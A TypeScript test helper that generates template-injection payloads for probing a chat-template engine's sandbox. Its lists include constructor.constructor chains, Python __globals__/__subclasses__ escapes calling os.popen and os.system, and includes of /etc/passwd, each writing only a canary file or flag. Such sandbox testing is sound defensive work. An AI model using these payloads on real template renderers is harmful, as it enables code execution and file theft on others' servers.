/** What a template starts from on its way out: every kind of value that it can name. */
const bases = [
  'messages',
  'messages[0]',
  'messages[0]["content"]',
  '""',
  '[]',
  '{}',
  '1',
  'true',
  'none',
  'range',
  'raise_exception',
  'namespace()',
  'eos_token',
  'nothing',
  '(1, 2)',
  'range(3)',
  'messages[0].keys',
  '"".join',
];

/** JavaScript that leaves a trace, and Python that does. @param file that it would write */
const scripts = (file: string) => [
  `globalThis.wgrankCanary=1`,
  `require("node:fs").writeFileSync("${file}","x")`,
  `process.mainModule.require("child_process").execSync("touch ${file}")`,
  `process.getBuiltinModule("node:fs").writeFileSync("${file}","x")`,
];

const ways: ((base: string, code: string) => string)[] = [
  (base, code) => `${base}.constructor.constructor('${code}')()`,
  (base, code) => `${base}["constructor"]["constructor"]('${code}')()`,
  (base, code) => `(${base}|attr("constructor")|attr("constructor"))('${code}')()`,
  (base, code) => `${base}.__proto__.constructor.constructor('${code}')()`,
  (base, code) => `${base}["__proto__"]["constructor"]('${code}')`,
  (base, code) => `${base}.toString.constructor('${code}')()`,
  (base, code) => `${base}["con" ~ "structor"]["con" ~ "structor"]('${code}')()`,
  (base, code) => `([${base}]|map(attribute="constructor.constructor")|first)('${code}')()`,
  (base, code) => `([${base}]|map(attribute="constructor")|map(attribute="constructor")|list)[0]('${code}')()`,
  (base, code) => `${base}.get("constructor").constructor('${code}')()`,
  (base, code) => `${base}.__defineGetter__("x", ${base}.constructor('${code}'))`,
];

const pythonWays: ((base: string, file: string) => string)[] = [
  (base, file) => `${base}.__class__.__mro__[1].__subclasses__()[40]("${file}","w").write("x")`,
  (base, file) =>
    `${base}.__class__.__base__.__subclasses__()[132].__init__.__globals__["popen"]("touch ${file}").read()`,
  (base, file) => `${base}.__init__.__globals__.__builtins__.open("${file}","w").write("x")`,
  (base, file) => `${base}.__init__.__globals__["os"].system("touch ${file}")`,
  (base, file) => `(${base}|attr("__class__")|attr("__base__")|attr("__subclasses__"))()[0]("${file}")`,
  (base, file) => `${base}["__cl" ~ "ass__"]["__mro__"][1]["__subclasses__"]()("touch ${file}")`,
];

const whole = (file: string) => [
  `{{ cycler.__init__.__globals__.os.popen("touch ${file}").read() }}`,
  `{{ joiner.__init__.__globals__.os.popen("touch ${file}").read() }}`,
  `{{ lipsum.__globals__["os"].popen("touch ${file}").read() }}`,
  `{{ self.__init__.__globals__.__builtins__.__import__("os").popen("touch ${file}").read() }}`,
  `{{ self._TemplateReference__context.cycler.__init__.__globals__.os.system("touch ${file}") }}`,
  `{{ request.application.__globals__.__builtins__.__import__("os").popen("touch ${file}") }}`,
  `{{ config.__class__.from_envvar.__globals__.__builtins__.__import__("os").popen("touch ${file}") }}`,
  `{{ get_flashed_messages.__globals__.__builtins__.open("${file}", "w") }}`,
  `{{ url_for.__globals__.os.system("touch ${file}") }}`,
  `{% include "/etc/passwd" %}`,
  `{% import "os" as os %}{{ os.system("touch ${file}") }}`,
  `{% from "os" import system %}{{ system("touch ${file}") }}`,
  `{% extends "/etc/passwd" %}`,
  `{% macro m() %}{% endmacro %}{{ m.constructor.constructor('globalThis.wgrankCanary=1')() }}`,
  `{% for x in [1] %}{{ loop.constructor.constructor('globalThis.wgrankCanary=1')() }}{% endfor %}`,
  `{% macro m() %}{{ caller.constructor.constructor('globalThis.wgrankCanary=1')() }}{% endmacro %}{% call m() %}{% endcall %}`,
  `{% set ns = namespace(a=1) %}{% set ns.__proto__ = {"wgrankCanary": 1} %}{{ ns }}`,
  `{% set ns = namespace(a=1) %}{% set ns.constructor = 1 %}{{ ns.__proto__.wgrankCanary }}`,
  `{{ process.env }}{{ globalThis.process }}{{ require }}{{ import }}`,
  `{{ globalThis }}{{ global }}{{ Function("wgrankCanary=1")() }}{{ eval("1") }}`,
  `{{ strftime_now("%Y") }}{{ strftime_now.constructor('globalThis.wgrankCanary=1')() }}`,
  `{{ raise_exception.call.constructor('globalThis.wgrankCanary=1')() }}`,
  `{{ "%c" | format(messages.constructor) }}{{ "{0.__class__}".format(messages) }}`,
  `{{ messages | tojson(indent="constructor") }}{{ messages | map("constructor") | list }}`,
];

/** Templates that are known, here or in other engines, to run code. @param file that they would write */
export function templateGadgets(file: string): string[] {
  const codes = scripts(file);
  const js = bases.flatMap((base, b) => ways.map((way, w) => way(base, codes[(b + w) % codes.length]!)));
  const python = bases.flatMap((base) => pythonWays.map((way) => way(base, file)));
  const forms: ((code: string) => string)[] = [
    (code) => `{{ ${code} }}`,
    (code) => `{% set x = ${code} %}{{ x }}`,
    (code) => `{% if ${code} %}x{% endif %}`,
    (code) => `{% for x in ${code} %}{{ x }}{% endfor %}`,
  ];
  return [...[...js, ...python].map((code, i) => forms[i % forms.length]!(code)), ...whole(file)];
}
